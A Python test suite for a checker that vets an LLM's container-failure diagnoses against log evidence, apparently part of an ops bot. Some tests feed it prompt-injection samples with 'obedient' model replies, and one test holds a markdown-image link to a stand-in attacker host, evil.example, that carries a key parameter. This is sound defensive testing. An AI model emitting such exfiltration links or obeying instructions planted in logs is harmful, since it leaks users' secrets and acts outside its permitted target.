import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.diagnosis import PROPOSED_ACTIONS, UNKNOWN_CAUSE_CONFIDENCE, Action, Diagnosis, FailureClass, Quote
from bot.domain.evidence import Evidence, LogDigest, LogLine, Neighbour, Source, Status
from bot.domain.llm.fact_check import check_reply
from bot.domain.llm.reply import Reply, parse_reply
from bot.domain.symptoms import diagnose
from bot.domain.symptoms.symptom import Symptom
from bot.domain.target import parse_target
from bot.errors import ReplyRejected
from tests.support.fakes import facts

CORPUS = Path(__file__).parents[2] / "corpus" / "gemini" / "injections.jsonl"
INJECTIONS = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines()]
REPLY_ROWS = [
    row
    for line in (CORPUS.parent / "gemini_replies.jsonl").read_text(encoding="utf-8").splitlines()
    if "text" in (row := json.loads(line))
]

EVIDENCE = Evidence(
    target=parse_target("buggy-app-v2"),
    gathered_at="2026-11-22T10:04:31Z",
    facts=None,
    log=LogDigest(
        (
            LogLine(17, "10:01:58 INFO listening on :8080"),
            LogLine(120, "10:02:11 ERROR QueuePool limit of size 20 overflow 0 reached, connection timed out", 412),
            LogLine(909, "10:04:02 WARN 20 of 20 connections held longer than 60 s", 3),
        )
    ),
    neighbours=(Neighbour("prod-db", "running"), Neighbour("cache", "exited")),
)
REPLY = Reply(
    root_cause="Twenty of twenty connections are held by hung requests.",
    action=Action.RESTART,
    justification="Held connections are released when the process restarts.",
    headline="connection pool exhausted",
    confidence=0.86,
    trouble=FailureClass.RESOURCE_EXHAUSTION,
    restart_helps=True,
    lines=(2, 3),
    disproof="Free connections in the pool.",
)
OOM = Symptom(
    FailureClass.OOM, "out of memory", "The kernel killed the process.", 0.95, True, "Raise the limit.", True,
    (Quote(120, "killed", 1),),
)  # fmt: skip
DISK = Symptom(
    FailureClass.DISK_FULL, "disk full", "No space is left on the volume.", 0.9, False, "Free some space first.", True
)


def judged(reply: Reply = REPLY, *symptoms: Symptom, evidence: Evidence = EVIDENCE, **changes: object) -> Diagnosis:
    return check_reply(reply.model_copy(update=changes), evidence, symptoms, target="buggy-app-v2", by="gemini-x")


def test_a_sound_reply_becomes_the_diagnosis() -> None:
    diagnosis = check_reply(REPLY, EVIDENCE, (), target="buggy-app-v2", by="gemini-x", tokens=4321, seconds=1.5)
    assert diagnosis == Diagnosis(
        headline="connection pool exhausted",
        root_cause=REPLY.root_cause,
        action=Action.RESTART,
        justification=REPLY.justification,
        confidence=0.86,
        trouble=FailureClass.RESOURCE_EXHAUSTION,
        restart_helps=True,
        by="gemini-x",
        quotes=(
            Quote(120, EVIDENCE.log.lines[1].text, 412),
            Quote(909, EVIDENCE.log.lines[2].text, 3),
        ),
        tokens=4321,
        seconds=1.5,
        disproof="Free connections in the pool.",
    )


def test_cited_lines_that_do_not_exist_are_dropped() -> None:
    diagnosis = judged(lines=(2, 4, 0, 120))
    assert [quote.number for quote in diagnosis.quotes] == [120]
    assert diagnosis.confidence < 0.86
    assert diagnosis.caveats == ("The model cites lines that are not in the evidence.",)


def test_a_diagnosis_that_cites_nothing_is_not_very_sure() -> None:
    assert judged(lines=()).confidence <= 0.6


NOTHING = Evidence(
    parse_target("buggy-app-v2"), "2026-11-22T10:04:31Z", None, sources=(Source("state", Status.DENIED),)
)


@pytest.mark.parametrize("claimed", [0.86, 1.0, 0.5])
def test_without_state_and_log_a_model_is_no_surer_than_the_rules(claimed: float) -> None:
    rules = diagnose.diagnose_by_rules(NOTHING, diagnose.find_symptoms(NOTHING))
    diagnosis = judged(evidence=NOTHING, confidence=claimed, lines=())
    assert diagnosis.confidence == rules.confidence == UNKNOWN_CAUSE_CONFIDENCE
    assert diagnosis.caveats == ("Neither the container's state nor its log was read; the model had nothing to go by.",)


def test_what_a_neighbour_or_event_says_is_no_state_and_no_log() -> None:
    heard = replace(NOTHING, neighbours=EVIDENCE.neighbours, events=("10:04:31 die, exit code 137",))
    assert judged(evidence=heard, lines=()).confidence == UNKNOWN_CAUSE_CONFIDENCE


def test_a_model_that_is_less_sure_than_the_rules_stays_so() -> None:
    assert judged(evidence=NOTHING, confidence=0.1, lines=()).confidence == 0.1


def test_a_log_or_a_state_alone_is_something_to_go_by() -> None:
    assert judged().confidence == 0.86
    assert judged(evidence=replace(NOTHING, facts=facts()), lines=()).confidence == 0.86


def test_no_model_is_ever_certain() -> None:
    assert judged(confidence=1.0).confidence < 1.0


def test_an_invented_quotation_is_left_out_and_named() -> None:
    diagnosis = judged(justification='The log says "database system is shut down" and "connection timed out".')
    assert diagnosis.justification == 'The log says […] and "connection timed out".'
    assert diagnosis.caveats == ("The model quotes something that is not in the evidence; it was left out.",)
    assert diagnosis.confidence < 0.86


def test_a_true_quotation_stays_and_its_line_is_shown() -> None:
    said = "It logs “QueuePool limit of size 20  overflow 0 reached…” all the time."
    diagnosis = judged(root_cause=said, lines=())
    assert "“QueuePool limit of size 20 overflow 0 reached…”" in diagnosis.root_cause
    assert [quote.number for quote in diagnosis.quotes] == [120]
    assert diagnosis.caveats == ()


def test_a_quotation_that_is_nearly_right_is_not_right() -> None:
    assert "[…]" in judged(root_cause="It logs `QueuePool limit of size 50 overflow 0 reached`.").root_cause


@pytest.mark.parametrize("word", ["it's the pool's fault", "the `DB_POOL` setting", 'a "hung" request'])
def test_single_words_and_apostrophes_are_no_quotations(word: str) -> None:
    assert judged(root_cause=f"Blame {word}.").root_cause == f"Blame {word}."


def test_a_fact_that_the_model_contradicts_leads() -> None:
    diagnosis = judged(
        REPLY, OOM, trouble=FailureClass.DNS, headline="name server gone", root_cause="The resolver is down."
    )
    assert (diagnosis.headline, diagnosis.trouble, diagnosis.restart_helps) == ("out of memory", FailureClass.OOM, True)
    assert diagnosis.root_cause == "The kernel killed the process. The model says otherwise: The resolver is down."
    assert diagnosis.caveats[0] == "The engine's facts contradict the model: out of memory."
    assert diagnosis.confidence <= 0.4
    assert diagnosis.quotes[0] == OOM.quotes[0]


@pytest.mark.parametrize("trouble", [FailureClass.OOM, FailureClass.RESOURCE_EXHAUSTION, FailureClass.UNKNOWN])
def test_another_word_for_the_same_trouble_is_no_contradiction(trouble: FailureClass) -> None:
    assert judged(REPLY, OOM, trouble=trouble).caveats == ()


def test_all_well_contradicts_any_hard_fact() -> None:
    diagnosis = judged(
        REPLY, OOM, trouble=FailureClass.NONE, action=Action.IGNORE, restart_helps=None, headline="all well"
    )
    assert diagnosis.headline == "out of memory"
    assert diagnosis.action is Action.IGNORE
    assert any("facts" in caveat for caveat in diagnosis.caveats)


def test_no_restart_is_proposed_against_a_proven_fact() -> None:
    diagnosis = judged(REPLY, DISK, trouble=FailureClass.DISK_FULL)
    assert (diagnosis.action, diagnosis.restart_helps) == (Action.IGNORE, False)
    assert diagnosis.justification == "Free some space first."
    assert diagnosis.confidence <= 0.43
    assert "disk full" in diagnosis.caveats[0]


def test_a_fact_never_turns_ignore_into_restart() -> None:
    diagnosis = judged(REPLY, OOM, action=Action.IGNORE, restart_helps=False, trouble=FailureClass.OOM)
    assert diagnosis.action is Action.IGNORE
    assert diagnosis.restart_helps is True
    assert diagnosis.caveats == (
        "The model says that a restart does not help; the facts say that it does: out of memory.",
    )


def test_a_soft_symptom_overrules_nothing() -> None:
    diagnosis = judged(REPLY, replace(OOM, proven=False), trouble=FailureClass.DNS)
    assert diagnosis.trouble is FailureClass.DNS
    assert diagnosis.caveats == ()


def test_facts_fill_in_what_a_minimal_reply_leaves_open() -> None:
    diagnosis = judged(Reply(root_cause="It died.", action=Action.RESTART), OOM)
    assert (diagnosis.headline, diagnosis.trouble, diagnosis.restart_helps) == ("out of memory", FailureClass.OOM, True)
    assert diagnosis.root_cause == "It died."
    assert diagnosis.quotes == OOM.quotes


def test_a_headline_is_made_of_the_root_cause_where_there_is_none() -> None:
    said = "The pool is exhausted. Requests hang because the database does not answer and nobody closes anything."
    assert judged(headline="", root_cause=said).headline == "The pool is exhausted"


def test_a_model_that_doubts_its_own_restart_is_labelled() -> None:
    diagnosis = judged(restart_helps=False)
    assert "says itself" in diagnosis.caveats[0]
    assert diagnosis.confidence < 0.6


@pytest.mark.fault(43)
@pytest.mark.parametrize(
    "said",
    [
        "Restart prod-db first.",
        "restarting the cache helps",
        "run docker restart anything",
        "docker compose restart worker",
        "Restart `worker`.",
        "restart container worker-7 to clear it",
        "Rest\u200bart prod-db",
    ],
)
@pytest.mark.parametrize("field", ["root_cause", "justification", "headline"])
def test_a_reply_that_wants_something_else_restarted_is_rejected(said: str, field: str) -> None:
    with pytest.raises(ReplyRejected, match="other than buggy-app-v2"):
        check_reply(REPLY.model_copy(update={field: said}), EVIDENCE, (), target="buggy-app-v2", by="gemini-x")


@pytest.mark.parametrize(
    "said",
    [
        "A restart re-opens the connections.",
        "Restart buggy-app-v2 to free them.",
        "docker restart buggy-app-v2.",
        "The restart policy on-failure gave up.",
        "It hangs since prod-db restarted at 10:01.",
        "Restarting the container clears it.",
    ],
)
def test_sentences_about_restarting_are_not_taken_for_names(said: str) -> None:
    assert judged(justification=said).action is Action.RESTART


def test_advice_to_restart_a_neighbour_is_labelled() -> None:
    diagnosis = judged(action=Action.IGNORE, restart_helps=None, justification="Restart prod-db in its place.")
    assert "Aegis restarts nothing but buggy-app-v2" in diagnosis.caveats[0]


@pytest.mark.parametrize("action", list(Action))
def test_a_container_named_beside_the_schema_must_be_the_target(action: Action) -> None:
    assert judged(named="buggy-app-v2", action=action, restart_helps=None).action is action
    with pytest.raises(ReplyRejected):
        judged(named="prod-db", action=action)


def test_addresses_of_the_model_lead_nowhere() -> None:
    diagnosis = judged(root_cause="see https://u:p@evil.example/x?k=1 or ![g](HTTP://evil.example/p.png?k=KEY) now")
    assert "://" not in diagnosis.root_cause
    assert "k=" not in diagnosis.root_cause.lower()


def test_secrets_are_redacted() -> None:
    assert "hunter2secret" not in judged(root_cause="ENV: DB_PASSWORD=hunter2secret").root_cause


def test_a_secret_split_by_an_invisible_character_is_redacted_too() -> None:
    assert "hunter2secret" not in judged(root_cause="DB_PASS\u200bWORD=hunter2secret").root_cause


@pytest.mark.parametrize("row", INJECTIONS, ids=lambda row: row["id"])
def test_an_obedient_model_is_rejected_or_says_nothing_but_words(row: dict[str, Any]) -> None:
    evidence = replace(EVIDENCE, log=LogDigest((*EVIDENCE.log.lines, LogLine(910, row["text"]))))
    try:
        diagnosis = judged(parse_reply(row["obedient_reply"]), OOM, evidence=evidence)
    except ReplyRejected:
        return
    assert diagnosis.action in (Action.RESTART, Action.IGNORE)
    assert diagnosis.confidence <= 0.6
    assert diagnosis.by == "gemini-x"
    for text in (diagnosis.headline, diagnosis.root_cause, diagnosis.justification):
        assert "://" not in text
        assert "\n" not in text
        assert "\u200b" not in text
        assert "s3cr3t-synthetic" not in text
        assert "xoxb-synthetic" not in text
    assert diagnosis.trouble is not FailureClass.NONE


@given(st.text(max_size=3000), st.text(max_size=3000), st.text(max_size=300), st.lists(st.integers(0, 9), max_size=9))
def test_any_words_end_up_short_visible_and_on_one_line(cause: str, why: str, headline: str, lines: list[int]) -> None:
    try:
        diagnosis = judged(root_cause=cause, justification=why, headline=headline, lines=tuple(lines))
    except ReplyRejected:
        return
    assert 0 < len(diagnosis.headline) <= 60
    assert 0 < len(diagnosis.root_cause) <= 500
    assert len(diagnosis.justification) <= 400
    assert len(diagnosis.quotes) <= 5
    for text in (diagnosis.headline, diagnosis.root_cause, diagnosis.justification):
        assert text.isprintable()
        assert "://" not in text
        text.encode("utf-8")
    assert all(quote.text in [line.text for line in EVIDENCE.log.lines] for quote in diagnosis.quotes)


@pytest.mark.parametrize("char", ["`", '"', "“", "'", "a://", "restart ", "a", ":", "*_"])
def test_endless_repetition_is_read_in_no_time(char: str) -> None:
    judged(root_cause=char * 100_000, justification=char * 100_000, headline=char * 100_000)


LOOP = Symptom(
    FailureClass.CRASHLOOP,
    "starts and fails again and again",
    "The engine started it 9 times, and it ended with exit code 1, the last time after 2 s.",
    0.8,
    False,
    "Find why a start fails.",
    proven=True,
    restart_futile=True,
)


@pytest.mark.parametrize("changes", [{}, {"action": Action.IGNORE, "restart_helps": False}])
def test_a_futile_restart_is_told_with_the_numbers_whatever_the_model_says(changes: dict[str, Any]) -> None:
    diagnosis = judged(REPLY, LOOP, trouble=FailureClass.BAD_RELEASE, headline="module missing", **changes)
    assert (diagnosis.action, diagnosis.restart_helps) == (Action.IGNORE, False)
    assert diagnosis.justification.startswith(LOOP.cause)
    # What the model names as the cause of the loop stays.
    assert (diagnosis.headline, diagnosis.trouble) == ("module missing", FailureClass.BAD_RELEASE)


def test_failing_starts_outweigh_memory_pressure() -> None:
    diagnosis = judged(REPLY, OOM, LOOP, trouble=FailureClass.OOM)
    assert (diagnosis.action, diagnosis.restart_helps) == (Action.IGNORE, False)


def test_a_crash_loop_does_not_hide_a_contradiction() -> None:
    diagnosis = judged(REPLY, OOM, LOOP, trouble=FailureClass.DNS, root_cause="The resolver is down.")
    assert diagnosis.trouble is FailureClass.OOM
    assert any("contradict" in caveat for caveat in diagnosis.caveats)


def test_an_exit_code_alone_is_a_hint_and_overrules_nothing() -> None:
    ended = replace(OOM, trouble=FailureClass.NONE, headline="stopped on request", confidence=0.55)
    diagnosis = judged(REPLY, ended, action=Action.IGNORE, restart_helps=None, trouble=FailureClass.CONFIG_ERROR)
    assert (diagnosis.trouble, diagnosis.caveats) == (FailureClass.CONFIG_ERROR, ())


REPLIES = st.builds(
    Reply,
    root_cause=st.text(min_size=1, max_size=80).filter(str.strip),
    action=st.sampled_from(PROPOSED_ACTIONS),
    justification=st.text(max_size=80),
    headline=st.text(max_size=40),
    confidence=st.floats(0, 1),
    trouble=st.sampled_from(FailureClass),
    restart_helps=st.sampled_from([True, False, None]),
    lines=st.lists(st.integers(-2, 9), max_size=6).map(tuple),
)
SYMPTOMS = st.lists(
    st.builds(
        Symptom,
        st.sampled_from(FailureClass),
        st.sampled_from(["a fact", "another fact"]),
        st.sampled_from(["It ended 3 times.", "It is full."]),
        st.floats(0.1, 0.97),
        st.sampled_from([True, False, None]),
        st.sampled_from(["", "Do this first."]),
        proven=st.booleans(),
    ),
    max_size=4,
)


@given(REPLIES, SYMPTOMS)
def test_checks_only_take_away(reply: Reply, symptoms: list[Symptom]) -> None:
    try:
        diagnosis = judged(reply, *symptoms)
    except ReplyRejected:
        return
    assert diagnosis.confidence <= max(0.01, round(reply.confidence, 2))
    assert diagnosis.confidence <= 0.95
    if reply.action is Action.IGNORE:
        assert diagnosis.action is Action.IGNORE
    known = {line.number: line.text for line in EVIDENCE.log.lines}
    assert all(known[quote.number] == quote.text for quote in diagnosis.quotes)
    missing = [number for number in reply.lines if not 1 <= number <= len(known)]
    assert bool(missing) == any("cites lines that are not" in caveat for caveat in diagnosis.caveats)
    if missing and reply.confidence > 0.05:
        assert diagnosis.confidence < reply.confidence
    proven = [one for one in symptoms if one.overrules_model]
    if diagnosis.trouble is not reply.trouble:
        assert diagnosis.trouble in {one.trouble for one in proven}
    if any(one.restart_helps is False for one in proven) and not any(one.restart_helps for one in proven):
        assert (diagnosis.action, diagnosis.restart_helps) == (Action.IGNORE, False)


@given(st.text(max_size=20))
def test_no_other_word_is_an_action(word: str) -> None:
    text = json.dumps({"root_cause": "x", "action": word})
    if word.strip(" \t\r\n").lower() in {"restart", "ignore"} and word.isascii():
        assert parse_reply(text).action == word.strip(" \t\r\n").lower()
    else:
        with pytest.raises(ReplyRejected):
            parse_reply(text)


@pytest.mark.parametrize("row", REPLY_ROWS, ids=lambda row: row["id"])
def test_replies_as_models_give_them_are_taken_or_refused(row: dict[str, Any]) -> None:
    try:
        diagnosis = judged(parse_reply(row["text"]), OOM)
    except ReplyRejected:
        assert row["expect"] == "reject"
        return
    assert row["expect"] == "accept"
    assert diagnosis.action in Action
    assert diagnosis.confidence <= 0.95
